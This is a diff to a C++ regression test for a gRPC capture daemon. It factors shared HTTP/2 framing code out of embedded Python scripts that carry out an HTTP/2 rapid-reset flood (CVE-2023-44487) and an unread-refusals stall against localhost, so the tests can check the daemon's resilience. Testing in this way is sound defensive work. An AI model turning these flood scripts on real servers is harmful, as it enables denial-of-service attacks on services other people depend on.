@@ -43,9 +43,9 @@ sys.stderr.flush()
 time.sleep(3600)
 )";
 
-// HTTP/2 rapid reset (CVE-2023-44487): on one connection, COUNT streams to PATH, each HEADERS
-// (hand-encoded HPACK literals) followed at once by RST_STREAM(CANCEL), no credentials.
-constexpr char kRapidReset[] = R"(
+// What both HTTP/2 attack scripts below start with: their arguments (PORT COUNT PATH), a frame
+// encoder, and the HEADERS block of a call to PATH (hand-encoded HPACK literals, no credentials).
+constexpr char kHttp2Attacker[] = R"(
 import socket, struct, sys, threading, time
 port, count, path = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
 def frame(kind, flags, stream, payload=b""):
@@ -55,6 +55,11 @@ def literal(name, value):
     return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
 block = b"".join(literal(k, v) for k, v in [(":method", "POST"), (":scheme", "http"),
     (":path", path), (":authority", "capd"), ("content-type", "application/grpc"), ("te", "trailers")])
+)";
+
+// HTTP/2 rapid reset (CVE-2023-44487): on one connection, COUNT streams to PATH, each HEADERS
+// followed at once by RST_STREAM(CANCEL), no credentials; runs after kHttp2Attacker.
+constexpr char kRapidReset[] = R"(
 s = socket.create_connection(("127.0.0.1", port))
 threading.Thread(target=lambda: [s.recv(65536) for _ in iter(int, 1)], daemon=True).start()
 s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(4, 1, 0))
@@ -74,16 +79,8 @@ time.sleep(3600)
 // Refused calls whose client reads nothing: on one connection, SETTINGS frames that capd answers
 // (a SETTINGS ACK each) fill capd's socket while COUNT calls to PATH (no credentials; at most
 // gRPC's 32 streams at once) come between them, so their refusals wait for room that never comes.
+// Runs after kHttp2Attacker.
 constexpr char kUnreadRefusals[] = R"(
-import socket, struct, sys, time
-port, count, path = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
-def frame(kind, flags, stream, payload=b""):
-    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
-def literal(name, value):
-    n, v = name.encode(), value.encode()
-    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
-block = b"".join(literal(k, v) for k, v in [(":method", "POST"), (":scheme", "http"),
-    (":path", path), (":authority", "capd"), ("content-type", "application/grpc"), ("te", "trailers")])
 s = socket.socket()
 s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
 s.connect(("127.0.0.1", port))
@@ -221,7 +218,7 @@ TEST_F(ConnectFloodTest, RapidResetMemoryIsBoundedAndHandedBack) {
   ASSERT_NO_FATAL_FAILURE(
       Spawn("reset",
             AsUser(kNobody, kNobody,
-                   {"/usr/bin/python3", "-c", kRapidReset, std::to_string(kAgentPort), "10000",
+                   {"/usr/bin/python3", "-c", std::string(kHttp2Attacker) + kRapidReset, std::to_string(kAgentPort), "10000",
                     "/capd.v1.Capture/Stream"}),
             &attack));
   ASSERT_TRUE(attack->WaitForStderr("reset: ", kStartTimeout)) << attack->Describe();
@@ -275,7 +272,7 @@ TEST_F(ConnectFloodTest, UnreadRefusalsDoNotDelayOtherClients) {
   ASSERT_NO_FATAL_FAILURE(
       Spawn("unread",
             AsUser(kNobody, kNobody,
-                   {"/usr/bin/python3", "-c", kUnreadRefusals, std::to_string(kAgentPort), "30",
+                   {"/usr/bin/python3", "-c", std::string(kHttp2Attacker) + kUnreadRefusals, std::to_string(kAgentPort), "30",
                     "/capd.v1.Capture/Stream"}),
             &attack));
   ASSERT_TRUE(attack->WaitForStderr("unread: ", kStartTimeout)) << attack->Describe();
